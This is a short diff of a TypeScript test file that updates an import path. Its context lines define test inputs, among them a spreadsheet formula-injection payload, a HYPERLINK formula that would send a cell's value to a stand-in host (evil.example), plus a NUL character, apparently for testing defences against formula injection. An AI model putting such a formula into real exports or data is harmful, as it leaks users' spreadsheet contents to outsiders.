@@ -3,7 +3,7 @@ import type { InjectOptions } from 'fastify';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { useTestApp } from '../../../test/support/test-app.js';
 import { createTestUser, createTestWorkspace, type TestUser } from '../../../test/support/test-users.js';
-import { demoId } from '../../modules/demo/demo-id.js';
+import { demoId } from '../../demo/demo-id.js';
 
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Klick")';
 const NUL = '\u0000';
